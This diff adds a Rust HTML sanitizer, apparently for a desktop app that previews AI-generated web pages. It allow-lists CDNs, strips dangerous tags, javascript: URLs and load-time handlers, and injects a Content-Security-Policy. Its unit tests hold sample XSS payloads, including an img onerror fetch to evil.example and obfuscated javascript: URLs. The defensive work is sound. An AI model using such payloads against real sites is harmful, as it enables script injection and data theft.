@@ -0,0 +1,234 @@
+use lol_html::{element, rewrite_str, RewriteStrSettings};
+use serde::Serialize;
+use std::cell::RefCell;
+
+use crate::html;
+use crate::preview::PREVIEW_SCHEME;
+
+// CDNs the system prompt steers the model towards; anything else is treated as unexpected
+const SCRIPT_HOSTS: &[&str] = &[
+    "cdn.tailwindcss.com",
+    "cdn.jsdelivr.net",
+    "unpkg.com",
+    "cdnjs.cloudflare.com",
+];
+const STYLE_HOSTS: &[&str] = &[
+    "fonts.googleapis.com",
+    "cdn.jsdelivr.net",
+    "unpkg.com",
+    "cdnjs.cloudflare.com",
+];
+const FONT_HOSTS: &[&str] = &["fonts.gstatic.com"];
+// Attributes a browser will navigate to or load from
+const URL_ATTRIBUTES: &[&str] = &["href", "src", "action", "formaction", "xlink:href", "poster"];
+// Handlers on these fire as the resource loads, with no user involved (<img src=x onerror=...>).
+// onclick and friends elsewhere are how generated apps work, so those stay.
+const RESOURCE_TAGS: &[&str] = &["img", "image", "svg", "video", "audio", "source", "track", "input"];
+
+#[derive(Debug, Clone, Serialize)]
+pub struct SanitizeResult {
+    pub html: String,
+    // Human-readable description of every element or attribute removed
+    pub removed: Vec<String>,
+}
+
+fn host_of(url: &str) -> Option<&str> {
+    let rest = url.trim().split_once("//").map(|(scheme, rest)| {
+        (scheme.is_empty() || scheme.ends_with(':')).then_some(rest)
+    })??;
+    rest.split(['/', '?', '#', ':']).next()
+}
+
+// Relative and data: URLs stay inside the page; absolute ones must be allow-listed
+fn allowed(url: &str, hosts: &[&str]) -> bool {
+    let url = url.trim();
+    if url.starts_with("data:") || url.starts_with("blob:") {
+        return true;
+    }
+    match host_of(url) {
+        Some(host) => hosts.iter().any(|allowed| host.eq_ignore_ascii_case(allowed)),
+        None => !url.contains(':'),
+    }
+}
+
+// Browsers ignore whitespace and control characters anywhere in the scheme
+fn is_javascript_url(value: &str) -> bool {
+    let compact: String = value.chars().filter(|c| !c.is_ascii_whitespace() && !c.is_control()).collect();
+    compact.to_ascii_lowercase().starts_with("javascript:")
+}
+
+fn sources(hosts: &[&str]) -> String {
+    hosts.iter().map(|host| format!("https://{}", host)).collect::<Vec<_>>().join(" ")
+}
+
+// Inline script stays allowed (every generated app relies on it); network access does not.
+// The preview scheme is spelled out because WebKit doesn't always treat custom schemes as 'self'.
+pub fn content_security_policy() -> String {
+    let preview = format!("{}: http://{}.localhost", PREVIEW_SCHEME, PREVIEW_SCHEME);
+    format!(
+        "default-src 'self' {preview} data: blob:; \
+         script-src 'self' {preview} 'unsafe-inline' 'unsafe-eval' {}; \
+         style-src 'self' 'unsafe-inline' {}; \
+         font-src 'self' data: {}; \
+         img-src 'self' data: blob: https:; \
+         media-src 'self' data: blob:; \
+         connect-src 'self' {preview}; \
+         frame-src 'none'; \
+         object-src 'none'; \
+         base-uri 'none'; \
+         form-action 'self'",
+        sources(SCRIPT_HOSTS),
+        sources(STYLE_HOSTS),
+        sources(FONT_HOSTS)
+    )
+}
+
+pub fn sanitize(source: &str) -> SanitizeResult {
+    let removed = RefCell::new(Vec::new());
+    let note = |what: String| removed.borrow_mut().push(what);
+
+    let rewritten = rewrite_str(
+        source,
+        RewriteStrSettings {
+            element_content_handlers: vec![
+                element!("script[src]", |el| {
+                    let src = el.get_attribute("src").unwrap_or_default();
+                    if !allowed(&src, SCRIPT_HOSTS) {
+                        note(format!("script from {}", src));
+                        el.remove();
+                    }
+                    Ok(())
+                }),
+                element!("link[href]", |el| {
+                    let href = el.get_attribute("href").unwrap_or_default();
+                    let rel = el.get_attribute("rel").unwrap_or_default().to_ascii_lowercase();
+                    let hosts = if rel.contains("stylesheet") { STYLE_HOSTS } else { FONT_HOSTS };
+                    if !allowed(&href, hosts) && !rel.contains("icon") {
+                        note(format!("link ({}) to {}", rel, href));
+                        el.remove();
+                    }
+                    Ok(())
+                }),
+                element!("iframe, frame, frameset, object, embed, applet, portal", |el| {
+                    note(format!("<{}> element", el.tag_name()));
+                    el.remove();
+                    Ok(())
+                }),
+                element!("base, meta[http-equiv]", |el| {
+                    let http_equiv = el.get_attribute("http-equiv").unwrap_or_default().to_ascii_lowercase();
+                    // Keep harmless ones like X-UA-Compatible; drop redirects and rival CSPs
+                    if el.tag_name() == "base" || http_equiv == "refresh" || http_equiv == "content-security-policy" {
+                        note(format!("<{}> tag", if http_equiv.is_empty() { el.tag_name() } else { http_equiv }));
+                        el.remove();
+                    }
+                    Ok(())
+                }),
+                element!("form[action]", |el| {
+                    let action = el.get_attribute("action").unwrap_or_default();
+                    if !allowed(&action, &[]) {
+                        note(format!("form action {}", action));
+                        el.remove_attribute("action");
+                    }
+                    Ok(())
+                }),
+                element!("*", |el| {
+                    let tag = el.tag_name();
+                    let names: Vec<String> = el.attributes().iter().map(|attr| attr.name()).collect();
+                    for name in names {
+                        let value = el.get_attribute(&name).unwrap_or_default();
+                        if URL_ATTRIBUTES.contains(&name.as_str()) && is_javascript_url(&value) {
+                            note(format!("javascript: URL in <{}> {}", tag, name));
+                            el.remove_attribute(&name);
+                        } else if name.starts_with("on") && RESOURCE_TAGS.contains(&tag.as_str()) {
+                            note(format!("{} handler on <{}>", name, tag));
+                            el.remove_attribute(&name);
+                        }
+                    }
+                    Ok(())
+                }),
+            ],
+            ..RewriteStrSettings::default()
+        },
+    );
+
+    // The rewriter only fails on pathological input; fall back to the untouched page
+    // (still protected by the CSP below)
+    let rewritten = rewritten.unwrap_or_else(|e| {
+        tracing::warn!("HTML sanitizer failed: {}", e);
+        source.to_string()
+    });
+
+    let csp = format!(
+        r#"<meta http-equiv="Content-Security-Policy" content="{}">"#,
+        content_security_policy()
+    );
+    SanitizeResult {
+        html: html::prepend_to_head(&rewritten, &csp),
+        removed: removed.into_inner(),
+    }
+}
+
+#[tauri::command]
+pub async fn sanitize_html(html: String) -> Result<SanitizeResult, String> {
+    Ok(sanitize(&html))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn page(body: &str) -> String {
+        format!("<!DOCTYPE html>\n<html>\n<head>\n<title>Test</title>\n</head>\n<body>\n{}\n</body>\n</html>", body)
+    }
+
+    #[test]
+    fn load_handlers_on_resources_are_stripped() {
+        let result = sanitize(&page(r#"<img src="x.png" onerror="fetch('https://evil.example')">"#));
+        assert!(!result.html.contains("onerror"));
+        assert!(result.html.contains(r#"src="x.png""#));
+        assert_eq!(result.removed.len(), 1);
+    }
+
+    #[test]
+    fn click_handlers_are_kept() {
+        let result = sanitize(&page(r#"<button onclick="count++">Add</button>"#));
+        assert!(result.html.contains(r#"onclick="count++""#));
+        assert!(result.removed.is_empty());
+    }
+
+    #[test]
+    fn javascript_urls_are_stripped() {
+        let result = sanitize(&page("<a href=\" java\tscript:alert(1)\">a</a><a href=\"JAVASCRIPT:alert(1)\">b</a><a href=\"/next\">c</a>"));
+        assert!(!result.html.to_ascii_lowercase().contains("script:alert"));
+        assert!(result.html.contains(r#"href="/next""#));
+        assert_eq!(result.removed.len(), 2);
+    }
+
+    #[test]
+    fn disallowed_tags_and_sources_are_removed() {
+        let result = sanitize(&page(concat!(
+            r#"<script src="https://cdn.tailwindcss.com"></script>"#,
+            r#"<script src="https://evil.example/x.js"></script>"#,
+            r#"<iframe src="https://evil.example"></iframe>"#,
+            r#"<object data="x.swf"></object>"#,
+            r#"<base href="https://evil.example/">"#,
+        )));
+        assert!(result.html.contains("cdn.tailwindcss.com"));
+        for gone in ["evil.example", "<iframe", "<object", "<base"] {
+            assert!(!result.html.contains(gone), "{} survived", gone);
+        }
+        assert_eq!(result.removed.len(), 4);
+    }
+
+    #[test]
+    fn csp_is_injected_exactly_once() {
+        let rival = r#"<meta http-equiv="Content-Security-Policy" content="default-src *">"#;
+        let source = page("<p>Hi</p>").replace("<title>", &format!("{}\n<title>", rival));
+        let once = sanitize(&source).html;
+        let twice = sanitize(&once).html;
+        for html in [&once, &twice] {
+            assert_eq!(html.matches("Content-Security-Policy").count(), 1);
+            assert!(!html.contains("default-src *"));
+        }
+    }
+}